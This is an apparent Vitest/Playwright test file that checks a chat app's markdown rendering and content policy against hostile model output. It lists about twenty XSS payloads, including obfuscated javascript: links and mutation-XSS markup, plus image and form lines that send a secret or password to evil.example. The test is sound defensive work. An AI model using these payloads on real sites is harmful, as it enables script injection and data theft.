import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { answered, answerOf, ask, type Chat, startChat } from './chat.ts';

const quick = { streamingProfile: { ttft: 20, tps: 2_000, jitter: 0 } };
const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src="https://evil.example/a.png" onerror="window.hacked = 2">',
  '![secret](https://evil.example/b.png?q=secret)',
  '<svg onload="window.hacked = 3"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '[click](javascript:window.hacked=5)',
  '[click](java&#115;cript:window.hacked=5)',
  '[click](  JaVaScRiPt:window.hacked=5)',
  '[click](data:text/html,<script>window.hacked=6</script>)',
  '[click](vbscript:x)',
  '[quote](https://example.org/"onmouseover="window.hacked=7)',
  '<a href="javascript:window.hacked=8" id="prompt">html</a>',
  '`<img src=x onerror="window.hacked = 9">`',
  '# <b onclick="window.hacked=10">bold</b>',
  '| <img src=x onerror=window.hacked=11> |\n| --- |\n| <script>window.hacked=12</script> |',
  '```"><script>window.hacked=13</script>\ncode\n```',
  '[ref]\n\n[ref]: javascript:window.hacked=14',
  '<javascript:window.hacked=15>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=window.hacked=16>',
].join('\n\n');

describe('hostile text', () => {
  let chat: Chat;
  beforeAll(async () => (chat = await startChat()));
  afterEach(() => chat.reset());
  afterAll(() => chat.close());

  it('does nothing, however it is cut: as an answer, as thinking, and after a reload', async () => {
    chat.model.mock.on({}, { content: hostile, reasoning: hostile }, { ...quick, chunkSize: 3 });
    // The policy of the page would hide what the rendering lets through.
    const page = await chat.open({ bypassCSP: true });
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(chat.url)) foreign.push(request.url());
    });
    await ask(page, hostile);
    await answered(page);
    for (const element of await page.locator('.prose a').all()) await element.dispatchEvent('mouseover');
    const look = () =>
      page.evaluate(() => {
        const elements = [...document.querySelectorAll('app-turn *')];
        return {
          hacked: (window as { hacked?: unknown }).hacked,
          dangerous: elements.filter((element) =>
            element.matches('script, img, svg, iframe, style, form, input, object, math'),
          ).length,
          handlers: elements.flatMap((element) =>
            element.getAttributeNames().filter((name) => name.startsWith('on')),
          ),
          targets: [
            ...new Set(
              [...document.querySelectorAll('app-turn a')].map(
                (link) => new URL((link as HTMLAnchorElement).href).protocol,
              ),
            ),
          ],
          prompts: document.querySelectorAll('#prompt').length,
        };
      });
    const harmless = { hacked: undefined, dangerous: 0, handlers: [], targets: ['https:'], prompts: 1 };

    expect(await look()).toEqual(harmless);
    expect(await answerOf(page).innerText()).toContain('<script>window.hacked = 1</script>');

    await page.reload();
    await answerOf(page).waitFor();
    expect(await look()).toEqual(harmless);
    expect(foreign).toEqual([]);
  });

  it('runs nothing that is not of the page, by its policy', async () => {
    const page = await chat.open();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = 1';
      document.body.append(script);
    });

    expect(await page.evaluate(() => (window as { hacked?: unknown }).hacked)).toBeUndefined();
  });
});
